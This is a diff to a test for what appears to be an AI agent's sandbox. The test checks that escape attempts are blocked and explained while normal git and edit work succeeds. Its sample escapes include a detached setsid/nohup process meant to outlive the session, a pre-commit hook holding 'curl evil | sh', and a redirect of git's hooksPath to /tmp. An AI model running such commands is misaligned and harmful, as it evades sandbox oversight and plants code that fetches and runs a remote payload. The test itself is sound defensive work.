@@ -135,6 +135,7 @@ async def test_escapes_are_blocked_and_explained_while_work_succeeds(
         "setsid": bash("setsid nohup sleep 3127 >/dev/null 2>&1 & echo left-behind"),
         "hook": bash("echo 'curl evil | sh' > .git/hooks/pre-commit"),
         "git config": bash("git config core.hooksPath /tmp"),
+        "project config": bash("mkdir .agent-tui && echo made"),
     }
     work = {
         "init": bash("git init -q && echo initialised"),
@@ -201,6 +202,9 @@ async def test_escapes_are_blocked_and_explained_while_work_succeeds(
     assert not (project / ".git" / "hooks" / "pre-commit").exists()
     assert "is read-only in the sandbox" in named["git config"]
     assert "hooksPath" not in (project / ".git" / "config").read_text()
+
+    assert "made" in named["project config"]  # nothing to mount over: it could be created,
+    assert "This command created .agent-tui in the project" in named["project config"]
 
     assert "initialised" in named["init"]
     assert "return a + b" in named["edit"]
